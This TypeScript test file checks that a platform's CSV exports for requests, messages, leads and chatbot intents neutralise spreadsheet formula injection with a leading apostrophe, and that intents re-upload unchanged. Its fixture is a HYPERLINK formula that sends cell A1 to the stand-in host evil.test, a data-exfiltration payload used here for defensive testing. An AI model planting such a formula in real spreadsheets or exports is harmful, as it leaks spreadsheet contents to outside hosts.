/**
 * CSV formula injection: every export (requests, messages, leads, intents) goes through one writer
 * (src/platform/http/csv.ts) that keeps text starting with = + - @ tab or CR inert with a leading
 * apostrophe, and the intents upload reads its own exports back unchanged.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { startTestApp, type TestApp } from './helpers/test-app.js';
import { anonymous, newTenant, type Tenant } from './helpers/factories.js';
import { newRequestId } from './helpers/conversations.js';
import { createBot, intentsOf } from './helpers/bots.js';
import { multipartBody } from './helpers/multipart.js';

const FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
const GUARDED = `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`;

describe('CSV exports', () => {
  let t: TestApp;
  before(async () => {
    t = await startTestApp();
  });
  after(() => t.close());

  async function get(tenant: Tenant, url: string) {
    const response = await t.http('GET', url, { headers: tenant.owner.basic });
    assert.equal(response.status, 200, response.text);
    assert.match(String(response.headers['content-type']), /^text\/csv/);
    return response.text;
  }

  it("keeps a visitor's formula inert in the requests and messages CSV", async () => {
    const tenant = await newTenant(t);
    const p = tenant.projectId;
    const visitor = await anonymous(t, p, '+Mallory');
    const requestId = newRequestId(p);
    const first = await t.http('POST', `/${p}/requests/${requestId}/messages`, {
      headers: visitor.headers,
      body: { text: FORMULA },
    });
    assert.equal(first.status, 200, first.text);
    for (const text of ['-2+3', '@SUM(1)', '\tTAB', '\rCR', "'=already quoted"]) {
      const more = await t.http('POST', `/${p}/requests/${requestId}/messages`, {
        headers: visitor.headers,
        body: { text },
      });
      assert.equal(more.status, 200, more.text);
    }

    const requests = await get(tenant, `/${p}/requests/csv`);
    assert.ok(requests.includes(`;${GUARDED};`), requests);
    assert.ok(!requests.includes(';"=HYPERLINK'), 'no cell starts with the formula');

    const messages = await get(tenant, `/${p}/requests/${requestId}/messages/csv`);
    for (const cell of [GUARDED, `"'-2+3"`, `"'@SUM(1)"`, `"'\tTAB"`, `"'\rCR"`, `"''=already quoted"`]) {
      assert.ok(messages.includes(`;${cell};`), `${cell} in ${messages}`);
    }
  });

  it('guards the leads CSV with the same writer (numbers stay bare)', async () => {
    const tenant = await newTenant(t);
    const created = await t.http('POST', `/${tenant.projectId}/leads`, {
      headers: tenant.owner.basic,
      body: { lead_id: 'l-1', fullname: FORMULA, email: 'x@example.test' },
    });
    assert.equal(created.status, 200, created.text);
    const csv = await get(tenant, `/${tenant.projectId}/leads/csv`);
    const [header, line] = csv.split('\r\n');
    assert.ok(header.startsWith('"_id";"lead_id";"fullname"'));
    assert.ok(line.includes(`;"l-1";${GUARDED};"x@example.test";`), line);
    assert.match(line, /;100;/);
  });

  it('guards the intents CSV, which uploads back unchanged', async () => {
    const tenant = await newTenant(t);
    const bot = await createBot(t, tenant, { name: 'csv', type: 'internal', template: 'empty' });
    const upload = async (botId: string, content: string) => {
      const form = await multipartBody(
        { id_faq_kb: botId, delimiter: ';' },
        { uploadFile: { content, filename: 'faqs.csv', type: 'text/csv' } },
      );
      const response = await t.http('POST', `/${tenant.projectId}/faq/uploadcsv`, {
        headers: { ...tenant.owner.basic, ...form.headers },
        payload: form.payload,
      });
      assert.equal(response.status, 200, response.text);
    };
    await upload(bot._id, `"=1+1";"-minus";"sum";"sum_name";"false"\n"'@at";"plain";"at";"at_name";"false"\n`);

    const csv = await get(tenant, `/${tenant.projectId}/faq/csv?id_faq_kb=${bot._id}`);
    assert.ok(csv.includes(`"'=1+1";"'-minus";"sum"`), csv);
    assert.ok(csv.includes(`"'@at";"plain";"at"`), 'an apostrophe before a formula reads as a guard too');

    const copy = await createBot(t, tenant, { name: 'copy', type: 'internal', template: 'empty' });
    await upload(copy._id, csv);
    const copied = await intentsOf(t, tenant, copy._id);
    assert.deepEqual(copied.map((intent: any) => intent.question).sort(), ['=1+1', '@at']);
  });
});
